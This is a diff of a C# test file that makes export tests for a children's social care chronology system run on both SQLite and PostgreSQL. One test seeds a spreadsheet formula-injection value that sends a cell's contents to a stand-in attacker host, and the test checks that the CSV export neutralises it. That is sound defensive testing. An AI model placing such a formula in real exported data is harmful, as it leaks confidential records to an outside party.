@@ -14,32 +14,40 @@ using UglyToad.PdfPig;
 
 namespace Lantern.Tests.Children;
 
-/// <summary>The chronology's PDF and CSV exports, read back as a meeting's reader would.</summary>
-public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<SqliteTestApp>
+/// <summary>The chronology's PDF and CSV exports, read back as a meeting's reader would. Runs on SQLite and PostgreSQL.</summary>
+public abstract class ChronologyExportTests
 {
     private const string FrontDoorAgency = "Northbridge Children's Social Care";
 
+    private readonly TestApp _app;
+
+    protected ChronologyExportTests(TestApp app)
+    {
+        _app = app;
+        Assert.SkipUnless(app.IsAvailable, $"{TestApp.PostgresVariable} is not set; scripts/test starts PostgreSQL and sets it.");
+    }
+
     private static CancellationToken Ct => TestContext.Current.CancellationToken;
 
-    private DateTimeOffset Latest => app.Time.GetUtcNow().AddDays(-1);
+    private DateTimeOffset Latest => _app.Time.GetUtcNow().AddDays(-1);
 
-    private WorkingDayCalendar Calendar => app.Services.GetRequiredService<WorkingDayCalendar>();
+    private WorkingDayCalendar Calendar => _app.Services.GetRequiredService<WorkingDayCalendar>();
 
     [Fact]
     public async Task PdfExport_LongChronology_OpensWithEveryEntryInOrderAndTheAgencyAndDateOnEveryPage()
     {
         // Entry 5 is far longer than a page, so it must run on across pages.
         var longSummary = string.Join(' ', Enumerable.Range(0, 900).Select(w => $"word{w}")) + " EndOfLongSummary";
-        var child = await TestChronology.SeedAsync(app, 80, Latest, i => i == 5 ? $"{TestChronology.Marker(i)}: {longSummary}" : null);
-        var client = await app.SignInAsAsync(Role.Practitioner);
+        var child = await TestChronology.SeedAsync(_app, 80, Latest, i => i == 5 ? $"{TestChronology.Marker(i)}: {longSummary}" : null);
+        var client = await _app.SignInAsAsync(Role.Practitioner);
 
         var response = await client.GetAsync(new Uri($"/children/{child}/chronology.pdf", UriKind.Relative), Ct);
 
         Assert.Equal(HttpStatusCode.OK, response.StatusCode);
         Assert.Equal("application/pdf", response.Content.Headers.ContentType?.MediaType);
         var fileName = response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName;
-        Assert.Equal($"chronology-northbridge-children-s-social-care-{Calendar.LocalDate(app.Time.GetUtcNow()):yyyy-MM-dd}.pdf", fileName?.Trim('"'));
-        var exportedAt = "Exported " + Calendar.UkTime(app.Time.GetUtcNow());
+        Assert.Equal($"chronology-northbridge-children-s-social-care-{Calendar.LocalDate(_app.Time.GetUtcNow()):yyyy-MM-dd}.pdf", fileName?.Trim('"'));
+        var exportedAt = "Exported " + Calendar.UkTime(_app.Time.GetUtcNow());
         using var pdf = PdfDocument.Open(await response.Content.ReadAsByteArrayAsync(Ct));
         var pages = pdf.GetPages().Select(p => string.Join(' ', p.GetWords().Select(w => w.Text))).ToList();
         // Wrapped text stays inside the margins (42 points each side of A4).
@@ -71,9 +79,9 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
     [Fact]
     public async Task PdfExport_Correction_ShowsBothEntriesMarked()
     {
-        var child = await TestChronology.SeedAsync(app, 3, Latest);
-        var corrected = await app.WithDbAsync(db => db.ChronologyEntries.Where(e => e.ChildId == child).OrderBy(e => e.OccurredAt).Select(e => e.Id).FirstAsync(Ct));
-        await using (var scope = app.Services.CreateAsyncScope())
+        var child = await TestChronology.SeedAsync(_app, 3, Latest);
+        var corrected = await _app.WithDbAsync(db => db.ChronologyEntries.Where(e => e.ChildId == child).OrderBy(e => e.OccurredAt).Select(e => e.Id).FirstAsync(Ct));
+        await using (var scope = _app.Services.CreateAsyncScope())
         {
             var records = scope.ServiceProvider.GetRequiredService<ChildRecords>();
             var agency = await scope.ServiceProvider.GetRequiredService<LanternDbContext>().Agencies.Where(a => a.Name == "Northbridge Police").Select(a => a.Id).SingleAsync(Ct);
@@ -82,7 +90,7 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
             Assert.Null(saved.Problem);
             await scope.ServiceProvider.GetRequiredService<LanternDbContext>().SaveChangesAsync(Ct);
         }
-        var client = await app.SignInAsAsync(Role.Practitioner);
+        var client = await _app.SignInAsAsync(Role.Practitioner);
 
         var pdf = await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.pdf", UriKind.Relative), Ct);
         var csv = Csv(await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.csv", UriKind.Relative), Ct));
@@ -104,11 +112,11 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
     [Fact]
     public async Task CsvExport_Filters_GiveTheRightRowsInTheRightOrder()
     {
-        var child = await TestChronology.SeedAsync(app, 120, Latest);
-        var police = await app.WithDbAsync(db => db.Agencies.Where(a => a.Name == "Northbridge Police").Select(a => a.Id).SingleAsync(Ct));
+        var child = await TestChronology.SeedAsync(_app, 120, Latest);
+        var police = await _app.WithDbAsync(db => db.Agencies.Where(a => a.Name == "Northbridge Police").Select(a => a.Id).SingleAsync(Ct));
         var from = Calendar.LocalDate(TestChronology.OccurredAt(Latest, 100));
         var to = Calendar.LocalDate(TestChronology.OccurredAt(Latest, 10));
-        var client = await app.SignInAsAsync(Role.Practitioner);
+        var client = await _app.SignInAsAsync(Role.Practitioner);
 
         var response = await client.GetAsync(new Uri(
             $"/children/{child}/chronology.csv?agency={police}&significance=significant&from={from:yyyy-MM-dd}&to={to:yyyy-MM-dd}&order=oldest", UriKind.Relative), Ct);
@@ -119,7 +127,7 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
         Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]);
         var rows = Csv(bytes);
         Assert.Equal(ChronologyExportCsv.Columns, rows[0]);
-        var expected = await app.WithDbAsync(async db => (await db.ChronologyEntries.Where(e => e.ChildId == child && e.SourceAgencyId == police).ToListAsync(Ct))
+        var expected = await _app.WithDbAsync(async db => (await db.ChronologyEntries.Where(e => e.ChildId == child && e.SourceAgencyId == police).ToListAsync(Ct))
             .Where(e => e.Significance >= Significance.Significant)
             .Where(e => Calendar.LocalDate(e.OccurredAt) >= from && Calendar.LocalDate(e.OccurredAt) <= to)
             .OrderBy(e => e.OccurredAt)
@@ -139,14 +147,14 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
     [Fact]
     public async Task CsvExport_FormulaInCells_IsNeutralised()
     {
-        var child = await TestChronology.SeedAsync(app, 4, Latest, i => i switch
+        var child = await TestChronology.SeedAsync(_app, 4, Latest, i => i switch
         {
             0 => "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
             1 => "+44 7700 900123 rang the school",
             2 => "-1 missed lessons, \"she said\"",
             _ => "@SUM(1+1)",
         });
-        var client = await app.SignInAsAsync(Role.Practitioner);
+        var client = await _app.SignInAsAsync(Role.Practitioner);
 
         var rows = Csv(await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.csv?order=oldest", UriKind.Relative), Ct));
 
@@ -158,8 +166,8 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
     [Fact]
     public async Task Export_NoInvolvement_IsNotFoundAndTheAttemptIsAudited()
     {
-        var child = await TestChronology.SeedAsync(app, 2, Latest);
-        var nurse = await app.SignInAsAsync(Role.HealthPractitioner);
+        var child = await TestChronology.SeedAsync(_app, 2, Latest);
+        var nurse = await _app.SignInAsAsync(Role.HealthPractitioner);
 
         var pdf = await nurse.GetAsync(new Uri($"/children/{child}/chronology.pdf", UriKind.Relative), Ct);
         var csv = await nurse.GetAsync(new Uri($"/children/{child}/chronology.csv", UriKind.Relative), Ct);
@@ -174,14 +182,14 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
     [Fact]
     public async Task Export_WithAnActiveInvolvement_IsAllowed()
     {
-        var child = await TestChronology.SeedAsync(app, 2, Latest);
-        await app.WithDbAsync(async db =>
+        var child = await TestChronology.SeedAsync(_app, 2, Latest);
+        await _app.WithDbAsync(async db =>
         {
             var nurse = await db.Users.SingleAsync(u => u.Email == TestApp.DemoAccountFor(Role.HealthPractitioner).Email, Ct);
-            db.Involvements.Add(new Involvement { ChildId = child, AgencyId = nurse.AgencyId, PractitionerId = nurse.Id, Role = "School nurse", StartedAt = app.Time.GetUtcNow(), StartedBy = nurse.Id });
+            db.Involvements.Add(new Involvement { ChildId = child, AgencyId = nurse.AgencyId, PractitionerId = nurse.Id, Role = "School nurse", StartedAt = _app.Time.GetUtcNow(), StartedBy = nurse.Id });
             return await db.SaveChangesAsync(Ct);
         });
-        var client = await app.SignInAsAsync(Role.HealthPractitioner);
+        var client = await _app.SignInAsAsync(Role.HealthPractitioner);
 
         var response = await client.GetAsync(new Uri($"/children/{child}/chronology.csv", UriKind.Relative), Ct);
 
@@ -192,8 +200,8 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
     [Fact]
     public async Task Export_EachDownload_WritesOneAuditEventNamingFormatAndFilters()
     {
-        var child = await TestChronology.SeedAsync(app, 6, Latest);
-        var client = await app.SignInAsAsync(Role.Practitioner);
+        var child = await TestChronology.SeedAsync(_app, 6, Latest);
+        var client = await _app.SignInAsAsync(Role.Practitioner);
 
         await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.pdf", UriKind.Relative), Ct);
         await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.csv?type=Crime&order=oldest", UriKind.Relative), Ct);
@@ -219,8 +227,8 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
     [InlineData("agency=police", "agency")]
     public async Task Export_BadFilter_Is400NamingTheParameter(string query, string parameter)
     {
-        var child = await TestChronology.SeedAsync(app, 1, Latest);
-        var client = await app.SignInAsAsync(Role.Practitioner);
+        var child = await TestChronology.SeedAsync(_app, 1, Latest);
+        var client = await _app.SignInAsAsync(Role.Practitioner);
 
         var response = await client.GetAsync(new Uri($"/children/{child}/chronology.pdf?{query}", UriKind.Relative), Ct);
 
@@ -231,7 +239,7 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
     }
 
     private Task<List<AuditEvent>> Audit(string recordId) =>
-        app.WithDbAsync(db => db.AuditEvents.AsNoTracking().Where(e => e.RecordId == recordId).OrderBy(e => e.Sequence).ToListAsync(Ct));
+        _app.WithDbAsync(db => db.AuditEvents.AsNoTracking().Where(e => e.RecordId == recordId).OrderBy(e => e.Sequence).ToListAsync(Ct));
 
     /// <summary>An RFC 4180 reader: quoted fields, doubled quotes, CRLF between records.</summary>
     private static List<string[]> Csv(byte[] bytes)
@@ -287,3 +295,7 @@ public sealed class ChronologyExportTests(SqliteTestApp app) : IClassFixture<Sql
         return rows;
     }
 }
+
+public sealed class SqliteChronologyExportTests(SqliteTestApp app) : ChronologyExportTests(app), IClassFixture<SqliteTestApp>;
+
+public sealed class PostgresChronologyExportTests(PostgresTestApp app) : ChronologyExportTests(app), IClassFixture<PostgresTestApp>;
